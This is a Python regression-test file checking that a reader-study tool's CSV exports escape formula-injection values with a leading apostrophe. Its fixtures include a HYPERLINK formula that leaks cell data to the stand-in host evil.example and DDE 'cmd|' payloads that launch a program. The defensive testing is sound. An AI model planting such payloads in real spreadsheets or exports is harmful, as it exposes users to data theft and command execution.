"""CSV formula injection. Prompts, case ids, reader and generator names
starting with `=`, `+`, `-`, `@` were written verbatim into the long and iMRMC exports, so
`=HYPERLINK(...)` opened in a spreadsheet as a live formula. Now every such text cell is
prefixed with `'` (OWASP), numbers stay numbers, and `read_long_csv` undoes the escape."""
from __future__ import annotations

import csv
import uuid

import pytest

from studies.design import StudyOptions
from studies.cells import FORMULA_PREFIXES, spreadsheet_safe, spreadsheet_unsafe
from studies.export import (
    imrmc_table, long_table, read_long_csv, write_export,
)
from studies.ingest import create_study
from studies.readers import invite, reader_for_token
from studies.session import next_case, submit
from study_fixtures import acknowledge_fixture_leak, write_images, write_manifest

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_CASES = [LINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                 "-5", "+7.5", "plain-case", "'=already quoted", "'-3", "ok2", "ok3", "ok4"]
HOSTILE_READERS = ["=cmd|' /C calc'!A0", "@dr-evil", "-dr", "dr-plain"]
HOSTILE_GENERATORS = ["=gen()", "@gen2"]


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    return rows[0], rows[1:]


def _is_live_formula(cell: str) -> bool:
    """What a spreadsheet evaluates: a cell starting with a formula character that is not a
    plain number (a leading ' makes it text)."""
    if not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    rows = write_images(tmp / "data", generators=tuple(HOSTILE_GENERATORS))
    for row, case in zip(rows, HOSTILE_CASES):
        row["case_id"] = case
        row["prompt"] = LINK if row["source"] == "synthetic" else f"-{row['prompt']}"
    manifest = write_manifest(tmp / "data" / "cases.csv", rows,
                              ["path", "source", "modality", "prompt", "generator", "case_id"])
    db = tmp / "s.db"
    create_study(db, "=study()", manifest=manifest, size=32,
                 options=StudyOptions(tasks=("turing", "alignment"), attention_checks=1))
    acknowledge_fixture_leak(db, "=study()")
    for name in HOSTILE_READERS:
        ref = reader_for_token(db, invite(db, "=study()", name))
        while (view := next_case(db, ref.reader_id)) is not None:
            q = view.pending[0]
            submit(db, ref.reader_id, view.assignment_id, q["task"], 2, 900, str(uuid.uuid4()))
    return tmp, db


@pytest.mark.parametrize("fmt", ["long", "imrmc"])
def test_no_exported_cell_is_a_live_formula(hostile, fmt):
    tmp, db = hostile
    out = tmp / f"{fmt}.csv"
    write_export(db, "=study()", fmt, out)
    header, rows = _cells(out)
    cells = [c for row in rows for c in row]
    live = [c for c in cells if _is_live_formula(c)]
    assert live == []
    table = long_table(db, "=study()") if fmt == "long" else imrmc_table(db, "=study()")
    # every hostile id that was exported appears escaped, exactly once-prefixed
    id_col = header.index("case" if fmt == "long" else "caseID")
    exported_ids = {row[id_col] for row in rows}
    assert "'" + LINK in exported_ids and "'@SUM(1+1)*cmd|' /C calc'!A0" in exported_ids
    assert "-5" in exported_ids and "+7.5" in exported_ids  # real numbers stay numbers
    assert "''=already quoted" in exported_ids and "'-3" in exported_ids  # typed with a '
    reader_col = header.index("reader" if fmt == "long" else "readerID")
    assert {"'=cmd|' /C calc'!A0", "'@dr-evil", "'-dr", "dr-plain"} <= {r[reader_col] for r in rows}
    if fmt == "long":
        assert "'" + LINK in {row[header.index("prompt")] for row in rows}
        assert {"'=gen()", "'@gen2"} <= {row[header.index("generator")] for row in rows}
        assert {row[header.index("study")] for row in rows} == {"'=study()"}
        # numeric columns are written as numbers
        assert {row[header.index("rating")] for row in rows} <= {"1", "2", "3", "4", "5", "6"}
        assert {row[header.index("duration_ms")] for row in rows} == {"900"}
    else:
        assert {"'=gen()", "'@gen2"} <= {row[header.index("modalityID")] for row in rows}
        assert all(row[header.index("score")].isdigit() for row in rows)
    assert len(rows) == len(table)


def test_read_long_csv_undoes_the_escape(hostile):
    tmp, db = hostile
    out = tmp / "roundtrip.csv"
    write_export(db, "=study()", "long", out)
    back = read_long_csv(out)
    orig = long_table(db, "=study()")
    for col in ("reader", "prompt", "generator", "study"):
        assert back[col].fillna("").tolist() == orig[col].tolist()
    assert [str(c) for c in back.case] == [str(c) for c in orig.case]
    assert back.rating.tolist() == orig.rating.tolist()


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-1", "-1"), ("-1.5e3", "-1.5e3"),
    ("-x", "'-x"), ("@a", "'@a"), ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("a=1", "a=1"),
    ("", ""), ("'=1", "''=1"), ("'x", "'x"), ("'-1", "'-1"), (None, None), (3, 3), (-3, -3),
])
def test_spreadsheet_safe_cells(value, safe):
    assert spreadsheet_safe(value) == safe
    assert spreadsheet_unsafe(spreadsheet_safe(value)) == value
